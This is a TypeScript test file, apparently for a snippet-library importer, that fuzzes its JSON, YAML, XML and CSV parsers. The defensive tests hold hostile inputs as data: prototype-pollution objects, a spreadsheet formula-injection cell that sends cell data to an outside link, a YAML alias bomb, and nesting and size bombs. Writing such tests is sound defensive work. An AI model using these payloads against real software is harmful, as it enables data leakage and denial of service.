import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, test, vi } from 'vitest';
import { readLibraryFile } from '../../../../utils/core/formats';
import { csv } from '../../../../utils/core/formats/csv-table';
import type { FormatInput } from '../../../../utils/core/formats/model';
import { snippetFields } from '../../../../utils/core/snippet-language/fields';
import { SAMPLES } from './samples';

// Hundreds of random files; on a busy machine the first of them wait for the parsers.
vi.setConfig({ testTimeout: 30_000 });

/** Whatever the file holds: a clear refusal, or snippets that can be used. */
function expectSafe(input: FormatInput): void {
  const result = readLibraryFile(input);
  if (!result.ok) {
    expect(result.failure.code).toMatch(/^(?:unknown|broken|too-big|too-deep|empty)$/);
    return;
  }
  for (const { title, body } of result.value.items) {
    expect(title.trim()).not.toBe('');
    expect(body.trim()).not.toBe('');
    if (isTranslated(result.value.format.id)) expect(snippetFields(body), body).toMatchObject({ ok: true });
  }
}

/** Formats whose placeholders are translated: what comes out must be right in our language. */
const isTranslated = (format: string) => !['draftside', 'markdown', 'csv'].includes(format);

describe.each(SAMPLES)('$name', (input) => {
  test('cut off anywhere gives a clear error or what stands before the cut', () => {
    for (let end = 0; end < input.text.length; end += Math.ceil(input.text.length / 60))
      expectSafe({ ...input, text: input.text.slice(0, end) });
  });

  test('with anything changed gives a clear error or usable snippets', () => {
    const at = fc.nat({ max: input.text.length });
    const noise = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 6 }),
      fc.constantFrom(...'{}[]"\'$%#|:\n\\', '{{', '}}', '{%', '${', ']]'),
    );
    fc.assert(
      fc.property(fc.array(fc.tuple(at, fc.nat({ max: 20 }), noise), { minLength: 1, maxLength: 4 }), (changes) => {
        const text = changes.reduce(
          (now, [start, gone, come]) => now.slice(0, start) + come + now.slice(start + gone),
          input.text,
        );
        expectSafe({ ...input, text });
      }),
      { numRuns: 40 },
    );
  });
});

test('random bytes are no library', () => {
  fc.assert(
    fc.property(
      fc.string({ unit: 'binary', maxLength: 300 }),
      fc.constantFrom('x', 'a.json', 'a.yml', 'a.xml', 'a.csv', 'a.ini', 'a.txt', 'a.md'),
      (text, name) => void expectSafe({ name, text }),
    ),
    { numRuns: 300 },
  );
});

describe('does not reach into objects', () => {
  const SNIPPET = '"title":"甲","body":"乙"';
  test.each([
    [
      'a.json',
      `{"format":"draftside-library","__proto__":{"polluted":1},"items":[{${SNIPPET},"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"extras":{"__proto__":{"polluted":1}}}]}`,
    ],
    ['a.json', `{"format":"draftside-library","items":[{${SNIPPET},"__proto__":{"polluted":1},},],} // 注`],
    [
      'a.code-snippets',
      '{"__proto__":{"prefix":"a","body":"甲","__proto__":{"polluted":1}},"乙":{"prefix":"b","body":"乙"}}',
    ],
    [
      'a.yml',
      'matches:\n  - trigger: a\n    replace: 甲\n    __proto__: { polluted: 1 }\n    constructor: { prototype: { polluted: 1 } }',
    ],
    ['a.csv', 'name,body,__proto__,constructor\n甲,乙,丙,丁'],
  ])('%s: %s', (name, text) => {
    const result = readLibraryFile({ name, text });
    expect(result.ok).toBe(true);
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
    const extras = result.ok ? result.value.items.flatMap((item) => Object.values(item.extras ?? {})) : [];
    expect(JSON.stringify(extras)).not.toMatch(/polluted|__proto__/);
    for (const extra of extras) expect(Object.getPrototypeOf(extra)).toBe(Object.prototype);
  });
});

test('a column called like a part of every object is no column of ours, and is not kept', () => {
  const read = readLibraryFile({ name: 'a.csv', text: 'name,body,constructor,__proto__,作者\n甲,乙,丙,丁,戊' });
  expect(read.ok && read.value.items.map(({ extras }) => extras)).toEqual([{ csv: { 作者: '戊' } }]);
});

test('a title holds no signs that turn the direction of writing or cannot be seen', () => {
  const text = '{"format":"draftside-library","items":[{"title":"\\u202E告报\\u200B结尾\\uFEFF","body":"乙"}]}';
  expect(readLibraryFile({ name: 'a.json', text })).toMatchObject({ value: { items: [{ title: '告报结尾' }] } });
});

test('a table that is written holds no formula, and is read again as it was', () => {
  const texts = [
    '=HYPERLINK("https://x.cn/"&A1)',
    '+1',
    '-2+3',
    '@SUM(A1)',
    "'=甲",
    "''-",
    "'甲'",
    '- 一项\n- 二项',
    '甲=乙',
  ];
  const snippets = texts.map((text) => ({ title: text.replace(/\n/g, ''), body: text, tags: [], folder: [] }));
  const table = csv.write?.(snippets as never, '')?.text ?? '';
  const cells = Papa.parse(table.slice(1), { header: false, skipEmptyLines: 'greedy' }).data.flat();
  expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  const read = readLibraryFile({ name: 'a.csv', text: table });
  expect(read.ok && read.value.items.map(({ body }) => body)).toEqual(texts);
});

test('what has no words but those that cannot be seen is not called by a blank', () => {
  const read = readLibraryFile({ name: 'a.csv', text: '  |- |' });
  expect(read).toMatchObject({ value: { items: [{ title: '…' }] } });
});

describe('stops at its limits', () => {
  test.each([
    ['a.json', '['.repeat(100_000)],
    ['a.json', `{"a":`.repeat(5000)],
    ['a.yml', `matches: ${'['.repeat(5000)}`],
    ['a.yml', `matches:\n${Array.from({ length: 300 }, (_, depth) => `${'  '.repeat(depth)}- a:`).join('\n')}`],
    ['a.yml', `matches:\n${'- '.repeat(5000)}x`],
    ['a.xml', `<quicktext>${'<a>'.repeat(5000)}`],
  ])('%s too deep', (name, text) => {
    expect(readLibraryFile({ name, text })).toMatchObject({ ok: false, failure: { code: 'too-deep' } });
  });

  test('a file of laughs', () => {
    const names = 'bcdefghij'.split('');
    const lines = names.map(
      (name, index) =>
        `${name}: &${name} [${Array(9)
          .fill(`*${index === 0 ? 'a' : names[index - 1]}`)
          .join(', ')}]`,
    );
    const text = `a: &a [x, x]\n${lines.join('\n')}\nmatches: *j`;
    expect(readLibraryFile({ name: 'a.yml', text })).toMatchObject({ ok: false, failure: { code: 'broken' } });
  });

  test('a file too big', () => {
    expect(readLibraryFile({ name: 'a.csv', text: 'a'.repeat(30_000_001) })).toMatchObject({
      failure: { code: 'too-big' },
    });
  });

  test('one snippet too long is left out and named', () => {
    const items = [
      { title: '长', body: '长'.repeat(200_001) },
      { title: '短', body: '短' },
    ];
    const result = readLibraryFile({ name: 'a.json', text: JSON.stringify({ format: 'draftside-library', items }) });
    expect(result).toMatchObject({
      value: { items: [{ title: '短' }], notes: [{ key: 'import.note.too-long', params: { name: '长' } }] },
    });
  });
});
